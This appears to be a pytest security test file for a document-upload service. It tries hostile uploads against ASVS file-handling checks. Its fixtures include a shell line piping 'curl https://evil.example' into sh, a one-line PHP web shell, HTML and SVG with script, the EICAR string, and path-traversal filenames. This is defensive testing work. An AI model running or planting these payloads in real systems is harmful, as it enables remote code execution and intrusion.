"""Hostile files: none reaches staff as a verified document (ASVS V12.1 file upload, V12.2
file integrity, V12.3 file execution, V12.5 file download). Each case counts as one file tried;
"accepted" is a verified document whose content is not what was declared, or one staff would
save under a name that runs."""

from __future__ import annotations

import json
from collections.abc import Callable
from datetime import timedelta
from typing import Any

import boto3
import pytest
from chalice.test import Client

from chalicelib.domain.documents import MAX_DOCUMENT_BYTES
from tests.applicant_flow import JPEG, PDF, PNG, Applicant, post_form, register
from tests.conftest import REGION, TEST_ENV, FixedClock
from tests.reliability.conftest import Figures

pytestmark = pytest.mark.reliability

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
HTML = b"<!DOCTYPE html><html><body><script>fetch('/steal')</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
SHELL = b"#!/bin/sh\ncurl https://evil.example | sh\n"
PHP = b"<?php system($_GET['c']); ?>"
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48
ZIP = b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"\x00" * 20
RUNNABLE = (".exe", ".bat", ".cmd", ".com", ".js", ".vbs", ".scr", ".ps1", ".sh", ".html", ".svg")
_DOB_DAYS = iter(range(10_000))


def objects(prefix: str) -> dict[str, bytes]:
    s3 = boto3.client("s3", region_name=REGION)
    listed = s3.list_objects_v2(Bucket=TEST_ENV["DOCUMENTS_BUCKET"], Prefix=prefix)
    return {
        o["Key"]: s3.get_object(Bucket=TEST_ENV["DOCUMENTS_BUCKET"], Key=o["Key"])["Body"].read()
        for o in listed.get("Contents", [])
    }


def documents(applicant: Applicant) -> list[dict[str, Any]]:
    answer = applicant.get()
    assert answer.status_code == 200, answer.body
    found: list[dict[str, Any]] = json.loads(answer.body)["documents"]
    return found


def grant(applicant: Applicant, content_type: str, size: int, filename: str = "a.pdf") -> Any:
    return applicant.request_upload("passport", content_type, size, filename)


def upload(
    applicant: Applicant,
    content: bytes,
    declared: str,
    *,
    size: int | None = None,
    sent_type: str | None = None,
    filename: str = "scan.pdf",
) -> str | None:
    """Ask for an upload of `size` bytes of type `declared`, then POST `content` to it, with
    the form's Content-Type field changed to `sent_type` (S3 refuses that: the policy binds the
    field; moto does not); the document's id, or None when the grant was refused."""
    answer = grant(applicant, declared, len(content) if size is None else size, filename)
    if answer.status_code != 201:
        assert answer.status_code in {409, 413, 422}, answer.body
        return None
    granted = json.loads(answer.body)
    form = granted["upload"]
    if sent_type is not None:
        form = {**form, "fields": {**form["fields"], "Content-Type": sent_type}}
    post_form(form, content, sent_type or declared)
    return str(granted["document_id"])


def wrongly_accepted(applicant: Applicant, genuine: bytes | None = None) -> int:
    """Verified documents that are not `genuine` content of their declared type, or that
    would be saved under a runnable name: each one is a hostile file that got through."""
    prefix = f"documents/{applicant.registration_id}/"
    stored = objects(prefix)
    accepted = 0
    for document in documents(applicant):
        if document["status"] != "verified":
            continue
        content = stored.get(prefix + document["document_id"])
        runnable = document["filename"].lower().endswith(RUNNABLE)
        if runnable or content is None or (genuine is not None and content != genuine):
            accepted += 1
    verified_ids = {d["document_id"] for d in documents(applicant) if d["status"] == "verified"}
    # Anything in documents/ that is not a verified document would reach staff all the same.
    accepted += sum(1 for key in stored if key.removeprefix(prefix) not in verified_ids)
    return accepted


Case = Callable[[Applicant, FixedClock], int]


def declared_too_large(a: Applicant, _: FixedClock) -> int:
    answer = grant(a, "application/pdf", MAX_DOCUMENT_BYTES + 1)
    assert answer.status_code == 413
    return wrongly_accepted(a)


def larger_than_declared(a: Applicant, _: FixedClock) -> int:
    upload(a, PDF + b"\x00" * 4096, "application/pdf", size=len(PDF))  # moto ignores the policy
    return wrongly_accepted(a)


def declared_zero_bytes(a: Applicant, _: FixedClock) -> int:
    assert grant(a, "application/pdf", 0).status_code == 422
    return wrongly_accepted(a)


def empty_file(a: Applicant, _: FixedClock) -> int:
    upload(a, b"", "application/pdf", size=1)
    return wrongly_accepted(a)


def _as(content: bytes, declared: str, sent_type: str | None = None) -> Case:
    def case(a: Applicant, _: FixedClock) -> int:
        upload(a, content, declared, sent_type=sent_type)
        return wrongly_accepted(a)

    return case


def named(filename: str) -> Case:
    def case(a: Applicant, _: FixedClock) -> int:
        document_id = upload(a, PDF, "application/pdf", filename=filename)
        assert document_id is not None
        [document] = documents(a)
        assert document["status"] == "verified"  # the content is a genuine PDF ...
        assert "/" not in document["filename"] and ".." not in document["filename"]
        stored = objects(f"documents/{a.registration_id}/")
        assert list(stored) == [f"documents/{a.registration_id}/{document_id}"]  # our key
        return wrongly_accepted(a, genuine=PDF)  # ... and staff would save it as .pdf

    return case


def reused_post_after_verification(a: Applicant, _: FixedClock) -> int:
    answer = json.loads(grant(a, "application/pdf", len(PDF)).body)
    post_form(answer["upload"], PDF, "application/pdf")
    assert [d["status"] for d in documents(a)] == ["verified"]
    post_form(answer["upload"], b"%PDF-" + HTML[: len(PDF) - 5], "application/pdf")
    post_form(answer["upload"], HTML, "application/pdf")
    return wrongly_accepted(a, genuine=PDF)


def expired_post(a: Applicant, clock: FixedClock) -> int:
    answer = json.loads(grant(a, "application/pdf", len(PDF)).body)
    clock.now += timedelta(minutes=16)
    assert [d["status"] for d in documents(a)] == ["expired"]
    # S3 refuses a POST after its policy's expiration; moto does not, so it lands: it must
    # not count all the same.
    post_form(answer["upload"], PDF, "application/pdf")
    assert [d["status"] for d in documents(a)] == ["expired"]
    return wrongly_accepted(a)


CASES: dict[str, Case] = {
    "declared larger than 10 MiB": declared_too_large,
    "larger than declared": larger_than_declared,
    "declared as zero bytes": declared_zero_bytes,
    "empty file": empty_file,
    "HTML as PDF": _as(HTML, "application/pdf"),
    "HTML as PDF, stored as text/html": _as(HTML, "application/pdf", "text/html"),
    "SVG with script as PNG": _as(SVG, "image/png"),
    "shell script as PDF": _as(SHELL, "application/pdf"),
    "PHP as JPEG": _as(PHP, "image/jpeg"),
    "Windows executable as PDF": _as(PE, "application/pdf"),
    "ZIP archive as PDF": _as(ZIP, "application/pdf"),
    "EICAR test file as PDF": _as(EICAR, "application/pdf"),
    "EICAR test file as JPEG": _as(EICAR, "image/jpeg"),
    "EICAR test file as PNG": _as(EICAR, "image/png"),
    "JPEG declared as PNG": _as(JPEG, "image/png"),
    "PNG declared as PDF": _as(PNG, "application/pdf"),
    "PDF stored as text/html": _as(PDF, "application/pdf", "text/html"),
    "filename x.pdf.exe": named("x.pdf.exe"),
    "filename ../../a": named("../../a"),
    "filename ..\\..\\windows\\evil.bat": named("..\\..\\windows\\evil.bat"),
    "filename invoice.pdf.html": named("invoice.pdf.html"),
    "re-used POST after verification": reused_post_after_verification,
    "POST used after it expired": expired_post,
}


@pytest.mark.parametrize("name", list(CASES))
def test_no_hostile_file_reaches_staff_as_verified(
    client: Client, clock: FixedClock, figures: Figures, name: str
) -> None:
    day = next(_DOB_DAYS)
    applicant = register(
        client,
        email=f"hostile{day}@example.org",
        date_of_birth=f"19{60 + day % 30}-0{1 + day % 9}-1{day % 9}",
    )
    assert applicant.post("confirm-email").status_code == 200

    accepted = CASES[name](applicant, clock)

    figures.add("files.hostile", tried=1, bad=accepted)
    assert accepted == 0, name
